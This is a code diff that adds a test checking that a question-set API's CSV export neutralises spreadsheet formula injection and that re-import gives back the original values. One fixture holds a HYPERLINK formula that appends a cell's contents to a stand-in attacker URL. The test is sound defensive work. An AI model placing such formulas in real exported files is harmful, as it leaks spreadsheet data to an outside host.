@@ -1,4 +1,5 @@
 import { fileURLToPath } from "node:url";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import {
   type QuestionGenerationWorker,
@@ -337,6 +338,45 @@ describeEachStore("HTTP API: question sets", (use) => {
     expect((await call(token, "GET", `/question-sets/${set.id}/export?format=xml`)).status).toBe(
       400,
     );
+  });
+
+  it("exports formula-like questions defused for spreadsheets, and imports the file back as they were", async () => {
+    const { token } = await userOf("alice");
+    const questions = [
+      {
+        question_type: "FACTUAL",
+        question_text: '=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")',
+        ground_truth: "-2 degrees",
+      },
+      { question_type: "INFERENTIAL", question_text: "+1 or -1?", ground_truth: "@noon" },
+      { question_type: "USER_DEFINED", question_text: "'=marked already?", ground_truth: "'tis" },
+    ];
+    const set = await json<SetBody>(
+      call(token, "POST", "/question-sets", { name: "formulas", questions }),
+    );
+    const file = await call(token, "GET", `/question-sets/${set.id}/export?format=csv`);
+    expect(file.status).toBe(200);
+    const content = await file.text();
+    const rows = parse(content, { columns: true }) as Record<string, string>[];
+    expect(rows.map((row) => [row.question_text, row.ground_truth])).toEqual([
+      ['\'=HYPERLINK("http://evil.example/?"&A1,"Click for the answer")', "'-2 degrees"],
+      ["'+1 or -1?", "'@noon"],
+      ["''=marked already?", "'tis"],
+    ]);
+    const again = await call(token, "POST", "/question-sets/import", {
+      name: "formulas, round trip",
+      format: "csv",
+      content,
+    });
+    expect(again.status).toBe(201);
+    const copy = (await again.json()) as SetBody;
+    expect(
+      copy.questions.map(({ question_text, question_type, ground_truth }) => ({
+        question_type,
+        question_text,
+        ground_truth,
+      })),
+    ).toEqual(questions);
   });
 
   it("answers another user's (or a malformed) id as not found everywhere", async () => {
